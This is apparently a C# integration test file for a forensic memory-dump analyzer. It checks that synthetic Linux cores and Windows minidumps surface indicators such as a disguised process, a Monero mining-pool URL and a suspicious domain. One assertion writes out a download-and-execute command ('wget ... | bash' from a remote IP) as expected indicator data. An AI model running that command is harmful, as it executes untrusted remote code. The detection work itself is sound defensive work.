using CaseManager.Application.Analysis.Memory;
using CaseManager.Domain.Evidence;
using CaseManager.Infrastructure.Analysis.Memory;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Memory;

/// <summary>Kernel-style ELF cores and Windows minidumps, written to the format specification by the test.</summary>
public sealed class SyntheticDumpTests
{
    [Fact]
    public async Task Kernel_style_core_with_comm_in_pr_fname_reports_process_binary_and_disguise()
    {
        var result = await AnalyzeAsync(SyntheticDumps.ElfCore(), "core.4242");

        result.Kind.ShouldBe("elf-core");
        (result.Process.ShouldNotBeNull() with { DisguiseOffsets = null }).ShouldBe(new ProcessInfo(SyntheticDumps.CoreName, SyntheticDumps.CorePid, 1, 1000, SyntheticDumps.CoreName + " -q", SyntheticDumps.CoreBinary));
        result.Process.DisguiseOffsets.ShouldNotBeNull().ShouldNotBeEmpty(); // where the recorded kernel-thread name is in memory
        result.MappedFiles.Count.ShouldBe(2);
        result.MappedFiles[0].ShouldBe(new MappedFile(0x400000, 0x401000, 0, SyntheticDumps.CoreBinary));
        result.Findings.ShouldContain(f => f.Code == "memory.process.kernel-thread-name" && f.Severity == FindingSeverity.Critical && f.Value("ppid") == "1");
        result.Findings.ShouldContain(f => f.Code == "memory.process.unusual-location" && f.Value("path") == SyntheticDumps.CoreBinary);
        result.Indicators.ShouldContain(i => i.Type == IndicatorType.Command && i.Value.StartsWith("wget -q -O- http://45.9.148.99/k.sh | bash"));
        result.Indicators.ShouldContain(i => i.Type == IndicatorType.Ip && i.Value == "45.9.148.99");
        var stratum = result.Indicators.First(i => i.Type == IndicatorType.Url && i.Value == "stratum+tcp://xmr.c3pool.com:13333");
        stratum.Context.ShouldNotBeNull().ShouldContain("(va 0x400065)"); // load data at 0x400000, string at +101
        result.Findings.ShouldContain(f => f.Code == "memory.strings.mining-pool" && f.Argument("domains")!.Values.Contains("xmr.c3pool.com"));
    }

    [Fact]
    public async Task Minidump_reports_modules_threads_and_process_information()
    {
        var result = await AnalyzeAsync(SyntheticDumps.Minidump(), "svchost.dmp");

        result.Kind.ShouldBe("minidump");
        result.Modules.Count.ShouldBe(2);
        result.Modules[0].ShouldBe(new ModuleInfo(SyntheticDumps.MainModule, 0x0000_7ff6_1000_0000, 0x5_4000, DateTimeOffset.FromUnixTimeSeconds(1_650_000_000)));
        result.Modules[1].Path.ShouldBe(@"C:\Windows\System32\ntdll.dll");
        result.Threads.ShouldBe([new ThreadInfo(5120, 0x0000_00a0_0000_0000, 0x4000), new ThreadInfo(5124, 0x0000_00a0_0010_0000, 0x4000)]);
        result.Process.ShouldNotBeNull().Pid.ShouldBe(SyntheticDumps.MinidumpPid);
        result.Process!.Name.ShouldBe("svchost.exe");
        result.Findings.ShouldContain(f => f.Code == "memory.module.writable-directory" && f.Value("path") == SyntheticDumps.MainModule);
        var context = result.Findings.Single(f => f.Code == "memory.dump.context");
        context.Value("system").ShouldBe("Windows 10.0.19045 x64");
        context.Value("written").ShouldBe("1700000000000000000");
        context.Value("started").ShouldBe("1700000100000000000");
        result.Indicators.ShouldContain(i => i.Type == IndicatorType.Domain && i.Value == "sjb555.3322.org" && i.Context!.StartsWith("utf16le"));
        result.Warnings.ShouldBeEmpty();
    }

    [Fact]
    public async Task Minidump_with_truncated_module_list_keeps_threads_and_warns()
    {
        var dump = SyntheticDumps.Minidump();
        var moduleList = BitConverter.ToInt32(dump, 32 + 12 + 8);
        var result = await AnalyzeAsync(dump[..(moduleList + 4 + 108 + 20)], "cut.dmp");

        result.Kind.ShouldBe("minidump");
        result.Threads.Count.ShouldBe(2);
        result.Modules.Count.ShouldBe(1);
        result.Warnings.ShouldContain(w => w.Code == "memory.minidump.modules-truncated" && w.Arguments[0].Value == "1");
    }

    internal static async Task<MemoryAnalysisResult> AnalyzeAsync(byte[] data, string name) =>
        await new MemoryAnalyzer().AnalyzeAsync(new MemoryStream(data), name, null, CancellationToken.None);
}
